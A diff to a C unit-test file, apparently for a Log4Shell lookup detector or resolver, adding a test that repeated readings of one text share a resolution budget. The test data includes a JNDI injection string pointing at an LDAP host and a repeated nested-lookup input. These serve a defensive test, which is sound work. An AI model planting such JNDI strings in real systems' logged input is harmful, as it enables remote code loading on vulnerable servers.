@@ -239,6 +239,27 @@ static void budgets_are_told(void **state)
     }
 }
 
+/* Many readings of one text: together they get what four would, and the next text begins anew. */
+static void readings_share_a_budget(void **state)
+{
+    struct lookup_result r;
+    unsigned n;
+    size_t len;
+    uint8_t *text = repeated("$$${x}", 4000, &len);
+
+    (void)state;
+    lookup_share(lookup, len);
+    for (n = 0; n < 20 && lookup_resolve(lookup, BYTES_LIT("${jndi:ldap://h/a}"), &r); n++)
+        lookup_resolve(lookup, bytes_of(text, len), &r);
+    assert_int_equal(n, 4);
+    assert_true(r.spent);
+    lookup_share(lookup, 20);
+    assert_true(lookup_resolve(lookup, BYTES_LIT("${jndi:ldap://h/a}"), &r));
+    assert_false(r.spent);
+    lookup_share(lookup, 1 << 20);
+    free(text);
+}
+
 static void more_names_than_fit_are_told(void **state)
 {
     struct buf text = buf_within(4096);
@@ -291,9 +312,13 @@ static void the_trigger_misses_nothing(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(names_are_log4js),           cmocka_unit_test(every_cut_is_safe),
-        cmocka_unit_test(techniques_are_told),        cmocka_unit_test(the_slice_is_the_expression),
-        cmocka_unit_test(budgets_are_told),           cmocka_unit_test(more_names_than_fit_are_told),
+        cmocka_unit_test(names_are_log4js),
+        cmocka_unit_test(every_cut_is_safe),
+        cmocka_unit_test(techniques_are_told),
+        cmocka_unit_test(the_slice_is_the_expression),
+        cmocka_unit_test(budgets_are_told),
+        cmocka_unit_test(readings_share_a_budget),
+        cmocka_unit_test(more_names_than_fit_are_told),
         cmocka_unit_test(the_trigger_misses_nothing),
     };
 
